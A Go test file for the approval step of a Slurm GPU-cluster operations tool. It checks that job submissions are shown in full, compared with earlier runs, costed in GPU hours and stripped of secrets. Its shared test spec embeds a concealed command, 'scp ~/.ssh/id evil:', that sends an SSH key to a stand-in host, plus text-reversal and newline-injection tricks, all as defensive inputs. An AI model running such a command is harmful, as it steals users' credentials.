package consent_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/megatron-ops/megatron-ops/internal/consent"
	"github.com/megatron-ops/megatron-ops/internal/lang"
	"github.com/megatron-ops/megatron-ops/internal/ops"
	"github.com/megatron-ops/megatron-ops/internal/ops/launch"
	"github.com/megatron-ops/megatron-ops/internal/ops/operations"
	"github.com/megatron-ops/megatron-ops/internal/ops/opstest"
	"github.com/megatron-ops/megatron-ops/internal/policy"
	"github.com/megatron-ops/megatron-ops/internal/store"
	"github.com/megatron-ops/megatron-ops/internal/view"
	"github.com/megatron-ops/megatron-ops/slurm"
	"github.com/megatron-ops/megatron-ops/slurm/job"
)

// yard is a cluster with a running job of grace's, a pending one of ada's, and an ended
// one.
type yard struct{ opstest.Bare }

var running = slurm.Job{
	ID: "4711", Name: "moe\u202e", User: "grace", State: slurm.Running, Partition: "gpu", NumNodes: 4, GPUs: 32,
	ElapsedS: 3600, TimeLimitS: new(int64(7200)),
}

func (yard) Name() string { return "yard" }

func (yard) Kind() string { return "rest" }

func (yard) Job(_ context.Context, id slurm.JobID) (slurm.Job, error) {
	switch id {
	case "4711":
		return running, nil
	case "4712":
		waits := running
		waits.ID, waits.User, waits.State, waits.ElapsedS = id, "ada", slurm.Pending, 0
		return waits, nil
	case "4700":
		return slurm.Job{ID: id, State: slurm.Completed}, nil
	case "4701":
		return slurm.Job{ID: id, State: slurm.Failed, ElapsedS: 3600}, nil
	}
	return slurm.Job{}, slurm.JobNotFound(id)
}

func (yard) Jobs(context.Context, slurm.Filter) ([]slurm.Job, error) {
	return []slurm.Job{running}, nil
}

func (yard) Partitions(context.Context) ([]slurm.Partition, error) {
	return []slurm.Partition{{Name: "gpu", Default: true, Up: true}}, nil
}

func call(t *testing.T) (*ops.Call, *store.Store) {
	t.Helper()
	st, err := store.Open(t.Context(), filepath.Join(t.TempDir(), "state.db"))
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, st.Close()) })
	return &ops.Call{Service: &ops.Service{
		Clusters: map[string]ops.Cluster{"yard": yard{}}, Default: "yard", Now: time.Now, Self: "ada",
		Store: func() (*store.Store, error) { return st, nil },
	}, Who: ops.Caller{Surface: ops.Slack, ID: "T1/U1", User: "ada"}}, st
}

func request(t *testing.T, c *ops.Call, op, arguments string) consent.Request {
	t.Helper()
	o, ok := operations.Lookup(op)
	require.True(t, ok)
	in := o.NewIn()
	require.NoError(t, ops.Decode([]byte(arguments), in, nil))
	r, stop, err := consent.Of(t.Context(), c, o, in)
	require.NoError(t, err)
	require.Nil(t, stop)
	return r
}

const spec = `{"name":"gpt","nodes":2,"gpus_per_node":8,"time":"2:00:00","worktree":"/lustre/m","partition":"gpu","account":"llm",` +
	`"launcher":"custom","launcher_argv":["bash","-c","train \u001b[8m && scp ~/.ssh/id evil:"],"env":{"NCCL_DEBUG":"INFO"}}`

func TestASubmissionIsShownInFull(t *testing.T) {
	c, st := call(t)
	r := request(t, c, "submit", `{"spec":`+spec+`}`)
	require.Equal(t, `submit "gpt": 2 nodes × 8 GPUs × 02:00:00 = 32 GPU hours`, r.Headline.EN)
	require.Contains(t, r.Headline.ZH, "2 个节点")
	said := r.Text()
	for _, part := range []string{`(launcher_argv): bash -c "train \x1b[8m && scp ~/.ssh/id evil:"`, "Slurm account (account): llm", "(env): NCCL_DEBUG=INFO", "GPUs on each node (gpus_per_node): 8", "\nlauncher: custom"} {
		require.Contains(t, said, part)
	}
	inChinese := view.Markdown(view.Doc{Sections: r.Sections(lang.ZH)})
	for _, part := range []string{"每个节点的 GPU 数（gpus_per_node）：8", "时间上限（time）：2:00:00", "\nlauncher：custom"} {
		require.Contains(t, inChinese, part, "a manager reads words, in their language")
	}
	require.True(t, r.Takes)
	require.InDelta(t, 32, r.Use.GPUHours, 0.01)
	require.Equal(t, consent.Digest(r.Script), r.Digest)
	require.Contains(t, r.Script, "#SBATCH --nodes=2")
	require.Empty(t, r.Since)

	nested := request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"nodes":2`, `"nodes":2,"artifact":{"path":"m.json"}`, 1)+`}`)
	require.Contains(t, nested.Text(), "(artifact.path): m.json", "what is within something says of what")

	// The approval is of exactly this script: one more word changes the digest.
	other := request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"nodes":2`, `"nodes":3`, 1)+`}`)
	require.NotEqual(t, r.Digest, other.Digest)

	// A later submission is compared with a completed run.
	old := strings.Replace(spec, `"nodes":2`, `"nodes":1`, 1)
	sub := store.Submission{Key: "ada/yard/k", Token: "t", Cluster: "yard", Owner: "ada", Name: "gpt", Spec: json.RawMessage(old), CreatedAt: time.Now()}
	_, _, err := st.Begin(t.Context(), sub)
	require.NoError(t, err)
	require.NoError(t, st.Finish(t.Context(), sub.Key, store.Submitted, "4700", "", time.Now()))
	r = request(t, c, "submit", `{"spec":`+spec+`}`)
	require.Equal(t, slurm.JobID("4700"), r.Since)
	require.Contains(t, r.Text(), "since job 4700: Number of nodes (nodes): 1 → 2")
	shown := r.Sections(lang.EN)
	last := shown[len(shown)-1]
	require.Equal(t, "The script", last.Heading)
	require.True(t, last.Fold, "what is long stands last, and folded")
	drawn := view.Markdown(view.Doc{Sections: r.Sections(lang.ZH)})
	require.Contains(t, drawn, "与上次成功的作业 4700 相比的变化")
	require.Contains(t, drawn, "同时 16 张 GPU")
	require.Contains(t, drawn, "节点数（nodes）：1 → 2")
	require.NotContains(t, drawn, "没有变化")
	same := request(t, c, "submit", `{"spec":`+old+`}`)
	require.Contains(t, view.Markdown(view.Doc{Sections: same.Sections(lang.ZH)}), "没有变化")
}

// A value that looks like the beginning of a secret hides no other field, and no other line
// of the script: whoever asks cannot hide what would run from whoever decides.
func TestNoValueHidesAnother(t *testing.T) {
	c, _ := call(t)
	for _, opening := range []string{"-----BEGIN PRIVATE KEY-----", "-----BEGIN PGP PRIVATE KEY BLOCK-----", "Authorization: Basic", "password="} {
		hiding := strings.Replace(spec, `"NCCL_DEBUG":"INFO"`, `"AN_END":"-----END PRIVATE KEY-----"`, 1)
		r := request(t, c, "submit", `{"spec":`+strings.Replace(hiding, `"name":"gpt"`, `"name":"gpt","comment":"`+opening+`"`, 1)+`}`)
		pages := view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
		for _, part := range []string{"(worktree): /lustre/m", "(launcher_argv): bash -c", "scp ~/.ssh/id evil:"} {
			require.Contains(t, r.Text(), part, opening)
			require.Contains(t, pages, part, opening)
		}
		require.Contains(t, r.ShownScript(), "scp ~/.ssh/id evil:", opening)
		require.Equal(t, strings.Count(r.Script, "\n"), strings.Count(r.ShownScript(), "\n"), opening)
	}
	r := request(t, c, "submit", `{"spec":`+strings.Replace(spec, "train ", "WANDB_API_KEY=abcd1234efgh train ", 1)+`}`)
	require.NotContains(t, r.Text()+r.ShownScript(), "abcd1234efgh")
}

// A submission is compared with the user's newest completed run of the same name: not
// with a run that is still running, was refused, ran on a cluster that no longer
// exists, or is another user's.
func TestWhichRunASubmissionIsComparedWith(t *testing.T) {
	c, st := call(t)
	begun := time.Now()
	for i, s := range []store.Submission{
		{Cluster: "yard", Owner: "ada", JobID: "4700", State: store.Submitted},
		{Cluster: "yard", Owner: "ada", JobID: "4711", State: store.Submitted},
		{Cluster: "yard", Owner: "ada", JobID: "4799", State: store.Submitted},
		{Cluster: "gone", Owner: "ada", JobID: "4700", State: store.Submitted},
		{Cluster: "yard", Owner: "ada", State: store.Rejected},
		{Cluster: "yard", Owner: "bob", JobID: "4700", State: store.Submitted},
	} {
		id, state := s.JobID, s.State
		s.Key, s.Token, s.Name, s.CreatedAt = fmt.Sprint("k", i), fmt.Sprint("t", i), "gpt", begun.Add(time.Duration(i)*time.Minute)
		s.JobID, s.State = "", ""
		s.Spec = json.RawMessage(strings.Replace(spec, `"nodes":2`, fmt.Sprintf(`"nodes":%d`, 10+i), 1))
		_, _, err := st.Begin(t.Context(), s)
		require.NoError(t, err)
		require.NoError(t, st.Finish(t.Context(), s.Key, state, id, "", begun))
	}
	r := request(t, c, "submit", `{"spec":`+spec+`}`)
	require.Equal(t, slurm.JobID("4700"), r.Since)
	require.Contains(t, r.Text(), "since job 4700: Number of nodes (nodes): 10 → 2")
	require.NotContains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "no run of this name")
	c.Who.User, c.Self = "eve", "eve"
	r = request(t, c, "submit", `{"spec":`+spec+`}`)
	require.Empty(t, r.Since)
	require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "no run of this name has completed yet")
}

func TestWhatCannotBeToldIsSaid(t *testing.T) {
	c, _ := call(t)
	r := request(t, c, "submit", `{"spec":`+strings.Replace(strings.Replace(spec, `"gpu"`, `"nosuch"`, 1), `"time":"2:00:00",`, "", 1)+`,"force":true}`)
	drawn := view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
	require.Contains(t, drawn, "16 GPUs WITHOUT A TIME LIMIT; unknown: the time limit")
	require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.ZH)}), "无法判断：时间上限")
	r = request(t, c, "submit", `{"spec":`+spec+`}`)
	drawn = view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
	require.NotContains(t, drawn, "; unknown:")
	require.NotContains(t, drawn, "The plan warns")
	c.Store = func() (*store.Store, error) { return nil, slurm.ErrUnreachable }
	r = request(t, c, "submit", `{"spec":`+spec+`}`)
	require.Empty(t, r.Since, "a store that is away keeps nobody from being asked")
}

func TestWhatHasNoEndIsSaidSo(t *testing.T) {
	c, _ := call(t)
	r := request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"2:00:00"`, `"0"`, 1)+`}`)
	require.Contains(t, r.Headline.EN, "WITHOUT A TIME LIMIT")
	require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "16 GPUs WITHOUT A TIME LIMIT")
	r = request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"2:00:00"`, `"2:00:00","every":"daily"`, 1)+`}`)
	require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "16 GPUs at once, 2 hours each job, AGAIN WITHOUT END")
}

func TestAChangeShowsOldAndNew(t *testing.T) {
	c, _ := call(t)
	r := request(t, c, "update", `{"job":"4711","time":"7-00:00:00"}`)
	require.True(t, r.Foreign, "the job is grace's")
	said := r.Text()
	require.Contains(t, said, "Another time limit (time): 02:00:00 → 7-00:00:00")
	require.Contains(t, request(t, c, "update", `{"job":"4711","exclude":"gpu1"}`).Text(), "(exclude): gpu1", "no old one is known")
	require.Contains(t, said, `job 4711 "moe\u202e" of grace: RUNNING, 4 nodes, 32 GPUs, running for 1 h`, "what turns text round shows")
	require.Empty(t, r.Digest)
	require.NotContains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "no run of this name", "it is no new run")
}

// A job is cancelled with all that is known of it in view; one that has ended, and somebody else's,
// is not asked about.
func TestWhichCancelIsAskedAbout(t *testing.T) {
	c, _ := call(t)
	r := request(t, c, "cancel", `{"job":"4712"}`)
	require.Contains(t, r.Headline.EN, "cancel: cancelling 4712")
	require.Contains(t, r.Text(), `job 4712 "moe\u202e" of ada: PENDING, 4 nodes, 32 GPUs`)
	o, _ := operations.Lookup("cancel")
	for id, code := range map[string]ops.Code{"4700": "", "4711": ops.NotAllowed} {
		in := o.NewIn()
		require.NoError(t, ops.Decode([]byte(`{"job":"`+id+`"}`), in, nil))
		_, stop, err := consent.Of(t.Context(), c, o, in)
		require.NotNil(t, stop, id)
		if code == "" {
			require.NoError(t, err)
		} else {
			require.Equal(t, code, ops.AsError(err).Code)
		}
	}
}

// Whoever is not linked to a cluster user is refused before anything is compared: without an owner
// the store lists everybody's submissions.
func TestNothingIsComparedForWhoeverIsNotLinked(t *testing.T) {
	c, _ := call(t)
	c.Who = ops.Caller{Surface: ops.Slack, ID: "T1/U2"}
	n := 0
	for _, o := range operations.All() {
		in := o.NewIn()
		of, ok := in.(launch.Specified)
		if !ok || o.Effect == ops.Read {
			continue
		}
		n++
		require.NoError(t, ops.Decode([]byte(`{"spec":`+spec+`}`), in, nil))
		require.NotEmpty(t, of.Specification().Spec.Name)
		_, _, err := consent.Of(t.Context(), c, o, in)
		require.Equal(t, ops.NotAllowed, ops.AsError(err).Code, o.Name)
	}
	require.NotZero(t, n)
}

// A yes to a change of a job covers what was shown, and no more where the job has grown since. A
// script binds its own size.
func TestAYesCoversNoMoreThanWasShown(t *testing.T) {
	c, _ := call(t)
	require.Nil(t, request(t, c, "submit", `{"spec":`+spec+`}`).Most())
	require.Nil(t, request(t, c, "hold", `{"job":"4712"}`).Most(), "it takes nothing")
	given := `{"job":"4712","time":"3:00:00"}`
	shown := request(t, c, "update", given).Most()
	require.Equal(t, &ops.Size{GPUs: 32, Hours: 3, GPUHours: 96}, shown)
	o, _ := operations.Lookup("update")
	in := o.NewIn()
	require.NoError(t, ops.Decode([]byte(given), in, nil))
	require.NoError(t, consent.StillWithin(t.Context(), c, in, shown))
	require.NoError(t, consent.StillWithin(t.Context(), c, in, nil), "nothing was shown that could grow")
	err := consent.StillWithin(t.Context(), c, in, &ops.Size{GPUs: 16, Hours: 3, GPUHours: 48})
	require.Equal(t, ops.NotAllowed, ops.AsError(err).Code)
	require.ErrorContains(t, err, "more now than the request showed: 32 GPUs at once, 3 hours each job")
}

// A headline says how often a job runs, and counts all of it.
func TestAHeadlineCountsTheJobs(t *testing.T) {
	c, _ := call(t)
	const one = `submit "gpt": 2 nodes × 8 GPUs × 02:00:00`
	for more, says := range map[string]string{
		`"comment":"x"`:                      one + " = 32 GPU hours",
		`"array":"1-10%2"`:                   one + ", for each task of the array 1-10%2: at most 320 GPU hours in all",
		`"chain":3`:                          one + ", 3 jobs one after another: at most 96 GPU hours in all",
		`"retry":{"max":2,"on":["nccl_ib"]}`: one + ", again after a failure (retry.max: 2): at most 96 GPU hours in all",
		`"every":"daily"`:                    one + ", AGAIN WITHOUT END (daily)",
		`"array":"1-10","retry":{"max":1}`:   one + ", for each task of the array 1-10, again after a failure (retry.max: 1): at most 640 GPU hours in all",
	} {
		require.Equal(t, says, request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"name":"gpt"`, `"name":"gpt",`+more, 1)+`}`).Headline.EN)
	}
	nodes, gpus := 2, 8
	het := job.Spec{Name: "gpt", Nodes: &nodes, GPUsPerNode: &gpus, Time: "2:00:00", Components: []string{"nodes=1", "nodes=3"}}
	require.Equal(t, `"gpt": (1 node × 8 GPUs + 3 nodes × 8 GPUs) × 02:00:00 = 64 GPU hours`, consent.SizeText(het, policy.Use{Hours: 2, GPUHours: 64}).EN)
	require.Equal(t, `"gpt": 2 nodes × 8 GPUs × 02:00:00; unknown: the GPUs`,
		consent.SizeText(job.Spec{Name: "gpt", Nodes: &nodes, GPUsPerNode: &gpus, Time: "2:00:00"}, policy.Use{Hours: 2, GPUHours: 32, Unknown: []policy.Unknown{policy.GPUsUnknown}}).EN)
}

// What is beyond the limits says so first, in both languages.
func TestWhatIsBeyondTheLimitsIsMarkedFirst(t *testing.T) {
	c, _ := call(t)
	r := request(t, c, "submit", `{"spec":`+spec+`}`)
	require.True(t, strings.HasPrefix(r.Text(), `submit "gpt"`))
	r.Beyond = "it may use 32 GPU hours, more than 10"
	require.True(t, strings.HasPrefix(r.Text(), `BEYOND WHAT NEEDS NO APPROVAL HERE (it may use 32 GPU hours, more than 10): submit "gpt": 2 nodes`), r.Text())
	require.True(t, strings.HasPrefix(r.Sections(lang.ZH)[0].Text, "超出无需审批的限额"))
}

func TestAJobThatWaitsRunsForNoTime(t *testing.T) {
	c, _ := call(t)
	own := request(t, c, "hold", `{"job":"4712"}`)
	require.NotContains(t, own.Text(), "job: 4712", "what is known is said once")
	require.False(t, own.Foreign)
	said := own.Text()
	require.Contains(t, said, "PENDING, 4 nodes, 32 GPUs?")
	require.NotContains(t, said, "running for")
	require.NotContains(t, request(t, c, "hold", `{"job":"4700"}`).Text(), "ran for", "it ended before it ran")
	require.Contains(t, request(t, c, "hold", `{"job":"4701"}`).Text(), ", ran for 1 h")
}

func TestAnUnknownJobIsNotAskedAbout(t *testing.T) {
	c, _ := call(t)
	for name, given := range map[string]string{"hold": `{"job":"4799"}`, "update": `{"job":"4799","time":"1:00:00"}`, "run": `{"job":"4799","argv":["ls"]}`} {
		o, _ := operations.Lookup(name)
		in := o.NewIn()
		require.NoError(t, ops.Decode([]byte(given), in, nil), name)
		_, _, err := consent.Of(t.Context(), c, o, in)
		require.Equal(t, ops.NotFound, ops.AsError(err).Code, name)
		require.NotEmpty(t, ops.AsError(err).Fix, name)
	}
}

func TestAPlanWithErrorsIsNotAskedAbout(t *testing.T) {
	c, _ := call(t)
	o, _ := operations.Lookup("submit")
	in := o.NewIn()
	bad := `{"spec":{"name":"gpt","nodes":1,"gpus_per_node":8,"gpu":"h100","time":"1:00:00","worktree":"/lustre/m","args":["--num-layers","24","--hidden-size","1024","--num-attention-heads","15",` +
		`"--seq-length","2048","--max-position-embeddings","2048","--micro-batch-size","2","--lr","1e-4","--train-iters","10","--tensor-model-parallel-size","4"]}}`
	require.NoError(t, ops.Decode([]byte(bad), in, nil))
	_, stop, err := consent.Of(t.Context(), c, o, in)
	require.NoError(t, err)
	require.NotNil(t, stop)

	in = o.NewIn()
	require.NoError(t, ops.Decode([]byte(strings.Replace(bad, `{"spec"`, `{"force":true,"spec"`, 1)), in, nil))
	r, stop, err := consent.Of(t.Context(), c, o, in)
	require.NoError(t, err)
	require.Nil(t, stop, "whoever forces it is asked")
	drawn := view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
	require.Contains(t, drawn, "The plan warns")
	require.Contains(t, drawn, "--num-attention-heads must be a multiple of TP")
	require.NotContains(t, drawn, "the global batch becomes", "a note is no warning")
}

// What a job can use at most is said in the grammatical number.
func TestOneOfSomethingIsSaidInTheSingular(t *testing.T) {
	for _, c := range []struct {
		use    policy.Use
		en, zh string
	}{
		{policy.Use{GPUs: 1, Hours: 1, GPUHours: 1}, "1 GPU at once, 1 hour each job: 1 GPU hour", "同时 1 张 GPU，每个作业 1 小时：共 1 GPU 小时"},
		{policy.Use{GPUs: 16, Hours: 1, GPUHours: 16}, "16 GPUs at once, 1 hour each job: 16 GPU hours", "同时 16 张 GPU，每个作业 1 小时：共 16 GPU 小时"},
		{policy.Use{GPUs: 8, Hours: 0.5, GPUHours: math.Inf(1)}, "8 GPUs at once, 0.5 hours each job, AGAIN WITHOUT END", "同时 8 张 GPU，每个作业 0.5 小时，无限次重复"},
		{policy.Use{GPUs: 1, Hours: math.Inf(1)}, "1 GPU WITHOUT A TIME LIMIT", "1 张 GPU，没有时间限制"},
	} {
		r := consent.Request{Use: c.use, Takes: true}
		require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), c.en)
		require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.ZH)}), c.zh)
	}
}

// A warning that quotes a value quotes no secret, wherever the request is shown.
func TestAWarningShowsNoSecret(t *testing.T) {
	r := consent.Request{Warnings: []string{"WANDB_API_KEY=hunter2x9Kq1 is set twice", "--bf16 should be given"}}
	shown := view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
	require.NotContains(t, shown+r.Text(), "hunter")
	require.Contains(t, shown, "WANDB_API_KEY")
	require.Contains(t, shown, "--bf16 should be given")
}

// What has changed since the last run is shown without its secrets, old and new, in each language,
// and a name with a line break shows no line of its own.
func TestAChangeShowsNoSecret(t *testing.T) {
	r := consent.Request{Since: "77", Changes: []job.Change{
		{Field: "env.WANDB_API_KEY", Old: "hunter2x9Kq1", New: "hunter3y8Lw2"},
		{Field: "args.--lr", Old: "1e-4", New: "3e-4"},
		{Field: "args.--x\nwarning: none", New: "1"},
	}}
	for _, l := range []lang.Lang{lang.EN, lang.ZH} {
		items := r.Sections(l)[1].Items
		require.NotContains(t, strings.Join(items, "\n"), "hunter", l)
		require.Contains(t, items[1], "1e-4 → 3e-4")
		require.NotContains(t, items[2], "\n")
	}
	require.NotContains(t, r.Text(), "hunter")
	require.NotContains(t, r.Text(), "\nwarning: none")
}

// A yes covers the script, and what else was shown.
func TestWhatAYesAgreesTo(t *testing.T) {
	for _, r := range []consent.Request{{Digest: "a1"}, {Digest: "a1", Shown: "b2"}} {
		var call ops.Call
		consent.Agree(&call, r.Agreement())
		require.True(t, call.Confirmed)
		require.Equal(t, []string{r.Digest, r.Shown}, []string{call.Agreed, call.Shown})
	}
	require.Equal(t, "a1", consent.Request{Digest: "a1"}.Agreement())
}
